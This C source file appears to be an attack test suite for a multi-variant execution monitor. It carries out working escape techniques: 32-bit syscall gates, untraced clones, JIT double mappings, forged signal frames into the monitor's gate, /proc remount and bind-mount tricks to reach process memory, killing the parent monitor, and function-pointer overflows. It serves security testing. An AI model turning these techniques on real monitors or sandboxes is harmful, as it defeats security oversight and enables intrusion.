/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Ways around the monitor, tried by code that runs in every variant alike:
 *
 *	far32		32-bit code, and its int $0x80
 *	untraced	a child of clone(CLONE_UNTRACED)
 *	jit		system calls from code written through a second mapping
 *	sigreturn	a signal frame that returns into the gate
 *	no-aslr, no-stack-limit
 *			programs executed with less randomness than their parent
 *	proc-again	another mount of /proc (root)
 *	proc-covered	another file system over what the monitor sees of us (root)
 *	proc-watched	files of /proc, as the kernel opens them for who watches (root)
 *	proc-parts	parts of /proc, mounted elsewhere and under other names (root)
 *	kill, limits	the monitor itself, which has the same user id
 *	sparse		a huge file, mapped shared
 *
 * and ways that no comparison of variants can see, so that the threat model can
 * say so:
 *
 *	partial		the lower half of a pointer, which is the same in all
 *			variants unless their layouts are independent
 *	data		a flag beside an overflowing buffer
 *	shared-store	an address, stored into a file without a system call
 *
 *	ahead		an address written, then a thousand small outputs
 */
#include <fcntl.h>
#include <sched.h>
#include <stddef.h>
#include <sys/fanotify.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/vfs.h>
#include <ucontext.h>
#include <linux/magic.h>
#include "attack.h"
#include <ipmon/abi.h>

static void leak(void)
{
	uintptr_t v = (uintptr_t)&v;

	(void)!write(1, &v, sizeof(v));
	effect();
}

/* mkdir("effect") by int $0x80 of a 32-bit code segment, and back. */
static int far32(void)
{
	static const unsigned char code[] = {
		0xb8, 39, 0, 0, 0,			/* mov $39, %eax */
		0xb9, 0xc0, 1, 0, 0,			/* mov $0700, %ecx */
		0xcd, 0x80,				/* int $0x80 */
		0xea, 0, 0, 0, 0, 0x33, 0,		/* ljmp $0x33, ... */
		/* 64 bits again */
		0x4c, 0x89, 0xfc,			/* mov %r15, %rsp */
		0x41, 0xff, 0xe6,			/* jmp *%r14 */
	};
	unsigned char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	uint32_t back;

	if (low == MAP_FAILED)
		return 0;
	memcpy(low, code, sizeof(code));
	strcpy((char *)low + 256, "effect");
	back = (uint32_t)(uintptr_t)low + 19;
	memcpy(low + 13, &back, 4);
	__asm__ volatile("lea 1f(%%rip), %%r14\n\tmov %%rsp, %%r15\n\t"
			 "push $0x23\n\tpush %0\n\tlretq\n1:"
			 : : "r"((uint64_t)low), "b"(low + 256)
			 : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10",
			   "r11", "r14", "r15", "memory");
	return 0;
}

static int untraced(void)
{
	long pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);

	if (pid == 0) {
		leak();
		_exit(0);
	}
	waitpid((pid_t)pid, NULL, 0);
	return 0;
}

static int jit(void)
{
	static const unsigned char code[] = { 0xb8, 1, 0, 0, 0, 0x0f, 0x05, 0xc3 };
	int fd = memfd_create("jit", 0);
	unsigned char *w, *x;
	uintptr_t v = (uintptr_t)&v;
	long r;

	if (ftruncate(fd, 4096))
		return 1;
	w = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
	if (w == MAP_FAILED || x == MAP_FAILED)
		return 0;
	memcpy(w, code, sizeof(code));
	for (int i = 0; i < 20; i++)
		__asm__ volatile("sub $256, %%rsp\n\tcall *%1\n\tadd $256, %%rsp"
				 : "=a"(r) : "r"(x), "D"(1), "S"(&v),
				   "d"(i < 19 ? 0 : sizeof(v))
				 : "rcx", "r11", "memory");
	effect();
	return 0;
}

static void into_the_gate(int sig, siginfo_t *si, void *uc)
{
	greg_t *g = ((ucontext_t *)uc)->uc_mcontext.gregs;
	uint64_t ctx;

	__asm__ volatile("mov %%gs:0, %0" : "=r"(ctx));
	g[REG_RIP] = (greg_t)((struct ipmon_ctx *)ctx)->gate;
	g[REG_RAX] = SYS_mkdir;
	g[REG_RDI] = (greg_t)"effect";
	g[REG_RSI] = 0700;
}

static int forged_frame(void)
{
	struct sigaction sa = { .sa_sigaction = into_the_gate,
				.sa_flags = SA_SIGINFO };

	warm();
	sigaction(SIGUSR1, &sa, NULL);
	raise(SIGUSR1);
	return 0;
}

static int again(const char *what)
{
	struct rlimit inf = { RLIM_INFINITY, RLIM_INFINITY };

	if (strcmp(what, "no-aslr") == 0)
		personality(ADDR_NO_RANDOMIZE);
	else if (setrlimit(RLIMIT_STACK, &inf))
		return 77;
	execl("/proc/self/exe", "escape", "leaks", (char *)NULL);
	return 1;
}

static int proc_again(void)
{
	char buf[65536];
	ssize_t n;
	int fd;

	mkdir("mnt", 0700);
	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount("proc", "mnt", "proc", 0, NULL))
		return 77;
	fd = open("mnt/self/maps", O_RDONLY);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		(void)!write(1, buf, (size_t)n);
	fd = open("mnt/self/mem", O_RDWR);
	if (fd >= 0)
		effect();
	return 0;
}

/* Is the monitor's memory to be had from these? */
static void had(int maps, int mem)
{
	static char text[1 << 20];
	size_t len = 0;
	ssize_t n;

	while (maps >= 0 && len < sizeof(text) - 1 &&
	       (n = read(maps, text + len, sizeof(text) - 1 - len)) > 0)
		len += (size_t)n;
	text[len] = 0;
	if (strstr(text, "memfd:ipmon") || mem >= 0)
		effect();
	close(maps);
	close(mem);
}

static void had_in(int dir, const char *name)
{
	char maps[5000], mem[5000];

	snprintf(maps, sizeof(maps), "%s/maps", name);
	snprintf(mem, sizeof(mem), "%s/mem", name);
	had(openat(dir, maps, O_RDONLY), openat(dir, mem, O_RDWR));
}

static int again_by_fd(int fd, int flags)
{
	char name[40];

	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	return open(name, flags);
}

/* From a mount that is nowhere to be seen. */
static void detached(void)
{
	int dir = (int)syscall(428, AT_FDCWD, "/proc/self", 1);
	int maps = (int)syscall(428, AT_FDCWD, "/proc/self/maps", 1);
	int mem = (int)syscall(428, AT_FDCWD, "/proc/self/mem", 1);

	had_in(dir, ".");
	had_in(again_by_fd(dir, O_RDONLY), ".");
	had(again_by_fd(maps, O_RDONLY), again_by_fd(mem, O_RDWR));
	/* with the names of files that are of no interest */
	close(open("comm", O_CREAT, 0600));
	close(open("stat", O_CREAT, 0600));
	mount("/proc/self/maps", "comm", NULL, MS_BIND, NULL);
	mount("/proc/self/mem", "stat", NULL, MS_BIND, NULL);
	maps = open("comm", O_PATH);
	mem = open("stat", O_PATH);
	umount2("comm", MNT_DETACH);
	umount2("stat", MNT_DETACH);
	had(again_by_fd(maps, O_RDONLY), again_by_fd(mem, O_RDWR));
}

static void parts(void)
{
	char name[5000] = "";
	int fd;

	mount("/proc/self", "mnt", NULL, MS_BIND, NULL);
	had_in(AT_FDCWD, "mnt");
	close(open("comm", O_CREAT, 0600));
	close(open("limits", O_CREAT, 0600));
	mount("mnt/maps", "comm", NULL, MS_BIND, NULL);
	mount("mnt/mem", "limits", NULL, MS_BIND, NULL);
	had(open("comm", O_RDONLY), open("limits", O_RDWR));
	/* over a file of that very proc, which keeps its name */
	mount("mnt/maps", "/proc/self/comm", NULL, MS_BIND, NULL);
	mount("mnt/mem", "/proc/self/limits", NULL, MS_BIND, NULL);
	had(open("/proc/self/comm", O_RDONLY),
	    open("/proc/self/limits", O_RDWR));
	umount("/proc/self/comm");
	umount("/proc/self/limits");
	umount("comm");
	umount("limits");
	umount("mnt");
	mkdir("17", 0700);
	mkdir("17/stat", 0700);
	mount("proc", "17/stat", "proc", 0, NULL);
	had_in(AT_FDCWD, "17/stat/self");
	had_in(AT_FDCWD, "17/stat/thread-self");
	/* the whole is mounted no longer */
	mount("17/stat/self", "mnt", NULL, MS_BIND, NULL);
	umount("17/stat");
	had_in(AT_FDCWD, "mnt");
	umount("mnt");
	detached();
	/* where no name reaches */
	for (int i = 0; i < 17; i++) {
		char one[256];

		memset(one, 'd', 255);
		one[255] = 0;
		mkdir(one, 0700);
		if (chdir(one))
			return;
	}
	mkdir("mnt", 0700);
	mount("/proc/self", "mnt", NULL, MS_BIND, NULL);
	had_in(AT_FDCWD, "mnt");
	fd = open("mnt", O_PATH);
	umount2("mnt", MNT_DETACH);
	had_in(fd, ".");
	for (int i = 0; i < 17; i++)
		if (chdir(".."))
			return;
	/* and without a root of its own */
	snprintf(name, sizeof(name), "mnt");
	fd = open("/proc", O_PATH);
	if (chroot(name))
		return;
	had_in(fd, "self");
}

static int proc_parts(void)
{
	pid_t pid;

	mkdir("mnt", 0700);
	if (unshare(CLONE_NEWNS) ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount("proc", "mnt", "proc", 0, NULL) || umount("mnt"))
		return 77;
	pid = fork();
	if (!pid) {
		parts();
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	if (unshare(CLONE_NEWPID))
		return 77;
	pid = fork();
	if (!pid) {
		mount("proc", "/proc", "proc", 0, NULL);
		had_in(AT_FDCWD, "/proc/1");
		parts();
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	return 0;
}

/* Where the monitor would see what we have opened there are other files. */
static int proc_covered(const char *what)
{
	char name[40];

	mkdir("fake", 0700);
	snprintf(name, sizeof(name), "/proc/%s", what);
	if (mount("fake", name, NULL, MS_BIND, NULL))
		return 77;
	if (open("/proc/self/mem", O_RDWR) >= 0)
		effect();
	return 0;
}

/* Somebody who watches files is given descriptors of those that others open: ours
 * of a child's memory, when a program begins in it. */
static int proc_watched(void)
{
	static const unsigned int kinds[] = {
		0, FAN_MARK_MOUNT, FAN_MARK_FILESYSTEM,
	};
	char b[8192] __attribute__((aligned(8)));
	int fan = fanotify_init(FAN_CLASS_NOTIF | FAN_NONBLOCK, O_RDWR);
	struct fanotify_event_metadata *e;
	struct statfs fs;
	pid_t pid;
	ssize_t n;

	if (fan < 0 || fanotify_mark(fan, FAN_MARK_ADD | FAN_MARK_FILESYSTEM,
				     FAN_OPEN, AT_FDCWD, "/dev/shm"))
		return 77;
	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++)
		fanotify_mark(fan, FAN_MARK_ADD | kinds[i],
			      FAN_OPEN | FAN_EVENT_ON_CHILD, AT_FDCWD,
			      kinds[i] ? "/proc" : "/proc/self");
	pid = fork();
	if (!pid) {
		fanotify_mark(fan, FAN_MARK_ADD, FAN_OPEN | FAN_EVENT_ON_CHILD,
			      AT_FDCWD, "/proc/self");
		close(open("/proc/self/mem", O_RDWR));
		execl("/bin/sleep", "sleep", "1", (char *)NULL);
		_exit(1);
	}
	usleep(500000);
	for (int i = 0; i < 100; i++) {
		n = read(fan, b, sizeof(b));
		for (e = (void *)b; n > 0 && FAN_EVENT_OK(e, n);
		     e = FAN_EVENT_NEXT(e, n)) {
			/* others mount what they like over /proc: no names */
			if (!fstatfs(e->fd, &fs) && fs.f_type == PROC_SUPER_MAGIC)
				effect();
			close(e->fd);
		}
	}
	waitpid(pid, NULL, 0);
	return 0;
}

/* The monitor is the parent: it has the same user id, and can be hurt. */
static int hurt(const char *what)
{
	static const int limits[] = { RLIMIT_NOFILE, RLIMIT_DATA, RLIMIT_AS,
		RLIMIT_FSIZE, RLIMIT_NPROC, RLIMIT_STACK };
	struct rlimit none = { 0, 0 };

	if (strcmp(what, "kill") == 0)
		kill(getppid(), SIGKILL);
	for (size_t i = 0; i < sizeof(limits) / sizeof(*limits); i++)
		prlimit(getppid(), (enum __rlimit_resource)limits[i], &none, NULL);
	leak();
	return 0;
}

static int sparse(void)
{
	int fd = open("sparse", O_RDWR | O_CREAT, 0600);
	char *p;

	unlink("sparse");
	if (ftruncate(fd, 1l << 40))
		return 0;
	p = mmap(NULL, 1ul << 40, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (p != MAP_FAILED) {
		p[1ul << 39] = 1;
		if (p[1ul << 39] != 1 || p[123])
			return 1;
	}
	return 0;
}

/* ---- what variants cannot see ---- */

static void __attribute__((noinline)) greet(void)
{
	(void)!write(1, "hello\n", 6);
}

static void __attribute__((noinline)) secret(void)
{
	effect();
}

static struct {
	char name[8];
	void (*fn)(void);
	int admin;
} victim = { "", greet, 0 };

/* strcpy and the like, with what an attacker has sent: `n` bytes */
static void __attribute__((noinline)) overflow(const char *from, size_t n)
{
	char *to = victim.name;

	__asm__ volatile("" : "+r"(to));
	memcpy(to, from, n);
}

static int partial(void)
{
	/* somehow the attacker knows it; what he sends goes to all alike */
	uint32_t low = (uint32_t)(uintptr_t)secret;
	char sent[12] = "AAAAAAAA";
	int fd = open("/dev/null", O_WRONLY);

	if (((uintptr_t)secret ^ (uintptr_t)greet) >> 32 ||
	    write(fd, &low, sizeof(low)) != sizeof(low))
		return 0;
	memcpy(sent + 8, &low, sizeof(low));
	overflow(sent, sizeof(sent));
	victim.fn();
	return 0;
}

static int data(void)
{
	char sent[20];

	memset(sent, 1, sizeof(sent));
	memcpy(sent + 8, &victim.fn, 8);	/* left as it was */
	overflow(sent, sizeof(sent));
	if (victim.admin)
		effect();
	return 0;
}

static int shared_store(void)
{
	int fd = open("file", O_RDWR | O_CREAT, 0600);
	uintptr_t *p;

	if (ftruncate(fd, 4096))
		return 1;
	p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	p[0] = (uintptr_t)&fd;
	p[1] = 1;
	return 0;
}

static int ahead(void)
{
	int fd = open("out", O_WRONLY | O_CREAT | O_APPEND, 0600);
	uintptr_t v = (uintptr_t)&v;

	for (int i = 0; i < 20; i++)
		(void)!write(fd, "", 0);
	(void)!write(fd, &v, sizeof(v));
	for (int i = 0; i < 1000; i++)
		(void)!write(fd, ".", 1);
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "far32") == 0)
		return far32();
	if (strcmp(what, "untraced") == 0)
		return untraced();
	if (strcmp(what, "jit") == 0)
		return jit();
	if (strcmp(what, "sigreturn") == 0)
		return forged_frame();
	if (strcmp(what, "no-aslr") == 0 || strcmp(what, "no-stack-limit") == 0)
		return again(what);
	if (strcmp(what, "leaks") == 0)
		leak();
	if (strcmp(what, "proc-again") == 0)
		return proc_again();
	if (strcmp(what, "proc-covered") == 0)
		return proc_covered(argc > 2 ? argv[2] : "self/fd");
	if (strcmp(what, "proc-watched") == 0)
		return proc_watched();
	if (strcmp(what, "proc-parts") == 0)
		return proc_parts();
	if (strcmp(what, "kill") == 0 || strcmp(what, "limits") == 0)
		return hurt(what);
	if (strcmp(what, "sparse") == 0)
		return sparse();
	if (strcmp(what, "partial") == 0)
		return partial();
	if (strcmp(what, "data") == 0)
		return data();
	if (strcmp(what, "shared-store") == 0)
		return shared_store();
	if (strcmp(what, "ahead") == 0)
		return ahead();
	return 0;
}
